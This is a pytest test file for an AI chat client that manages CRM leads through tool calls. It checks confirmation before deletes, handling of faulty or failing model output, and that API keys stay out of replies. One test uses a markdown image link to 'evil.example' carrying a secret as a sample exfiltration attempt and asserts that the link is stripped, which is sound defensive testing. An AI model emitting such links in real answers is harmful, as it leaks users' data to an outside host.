"""Turns through the real client: a whole conversation, and a model that behaves badly."""

from __future__ import annotations

import json

import pytest

from local.offline_model.script import Call, Fault, Say


def wants(intent):
    return Say(text=json.dumps({"intent": intent}))


def test_a_conversation_that_ends_with_a_confirmed_delete(world):
    done = Say(text="Done.")
    given = {"name": "John Doe", "company": "TechCorp", "value": "50k"}
    made = world.chat("add John", wants("create"), Call(name="create_lead", arguments=given), done)
    lead = made.function_results[0].result["data"]
    assert (lead["value"], world.names()) == (50_000, ["John Doe"])

    search = Call(name="search_leads", arguments={"query": "John Tech"})
    move = {"lead_id": lead["id"], "new_status": "Proposal sent"}
    moved = world.chat(
        "move John Tech to Proposal sent", wants("change"), search,
        Call(name="update_lead_status", arguments=move), done,
    )  # fmt: skip
    assert [each.function for each in moved.function_results] == [
        "search_leads", "update_lead_status",
    ]  # fmt: skip
    assert world.names("Proposal sent") == ["John Doe"]

    delete = Call(name="delete_lead", arguments={"lead_id": lead["id"]})
    asked = world.chat("delete John Doe", wants("destructive"), delete, done)
    waiting = asked.function_results[0].result
    assert waiting["requires_confirmation"] is True
    assert waiting["message"].startswith("Delete the lead 'John Doe' of TechCorp?")
    assert world.names("Proposal sent") == ["John Doe"]

    confirm = Call(name="confirm_action", arguments={"action_id": waiting["data"]["action_id"]})
    gone = world.chat("yes, delete it", wants("unclear"), confirm, done)
    assert gone.function_results[0].result["message"] == "Lead 'John Doe' deleted successfully"
    assert world.names("Proposal sent") == []


def test_strict_schemas_are_taken_and_calls_come_one_by_one(world):
    world.chat("delete all", wants("destructive"), Say(text="Which?"))
    intent, first = world.asked
    schema = intent["text"]["format"] if "text" in intent else intent["response_format"]
    assert "turn_intent" in json.dumps(schema)
    assert '"strict": true' in json.dumps(schema)
    assert len(first["tools"]) == 9
    assert all('"strict": true' in json.dumps(tool) for tool in first["tools"])
    assert first["parallel_tool_calls"] is False


@pytest.mark.parametrize("intent", ["create", "destructive"])
def test_prose_is_only_an_answer(world, intent):
    result = world.chat("add Ann", wants(intent), Fault(kind="prose"))
    assert (result.status, result.function_results) == ("success", ())
    assert "Certainly!" in result.ai_message
    assert world.is_untouched()


@pytest.mark.parametrize(
    ("fault", "told"),
    [("malformed_arguments", "are not valid"), ("unknown_tool", "Unknown function: no_such_tool")],
)
def test_a_bad_call_is_answered_and_the_turn_goes_on(world, fault, told):
    result = world.chat("add Ann", wants("create"), Fault(kind=fault), Say(text="Sorry."))
    assert told in result.function_results[0].result["message"]
    assert (result.status, result.ai_message) == ("success", "Sorry.")
    assert world.is_untouched()


def test_a_loop_is_stopped(world):
    result = world.chat("what is up", wants("question"), Fault(kind="tool_loop"))
    assert (result.status, result.error) == ("error", "StepLimit")
    assert len(result.function_results) == 6


def test_prose_for_an_intent_opens_reading_only(world):
    result = world.chat("delete all", Fault(kind="prose"), Say(text="What?"))
    assert result.intent == "unclear"
    assert len(world.asked[1]["tools"]) == 4


@pytest.mark.parametrize(
    ("fault", "kind", "told"),
    [
        ("key_refused", "key_refused", "refuses its key"),
        ("quota", "quota_gone", "quota is used up"),
        ("rate_limit", "rate_limited", "asked too often"),
        ("hang", "timeout", "did not answer in time"),
        ("server_error", "provider_failed", "failure of its own"),
        ("unknown_model", "unknown_model", "does not exist"),
        ("refusal", "content_refused", "other words"),
    ],
)
@pytest.mark.parametrize("late", [False, True])
def test_a_failing_model_is_an_apology(world, fault, kind, told, late):
    steps = [wants("search")] if late else []
    steps += [Fault(kind=fault)] * 2
    result = world.chat("hello", *steps)
    assert (result.status, result.error) == ("error", kind), result
    assert told in result.ai_message
    assert "sk-" not in result.ai_message


def test_two_deletes_at_once_are_one_question(world):
    first, second = world.add("Ann"), world.add("Bob")
    calls = [Call(name="delete_lead", arguments={"lead_id": each.id}) for each in (first, second)]
    result = world.chat("delete both", wants("destructive"), *calls, Say(text="Which?"))
    asked, refused = (each.result for each in result.function_results)
    assert asked["requires_confirmation"] is True
    assert "one action at a time" in refused["message"]
    assert world.is_untouched()


def test_an_answer_streams_without_its_links(world):
    pieces = []
    text = "Look at ![a](https://evil.example/x?secret=1) and go on, please."
    result = world.chat("hello", wants("question"), Say(text=text), piece=pieces.append)
    assert "".join(pieces) == result.ai_message
    assert "evil.example" not in result.ai_message
    assert result.ai_message.endswith("and go on, please.")
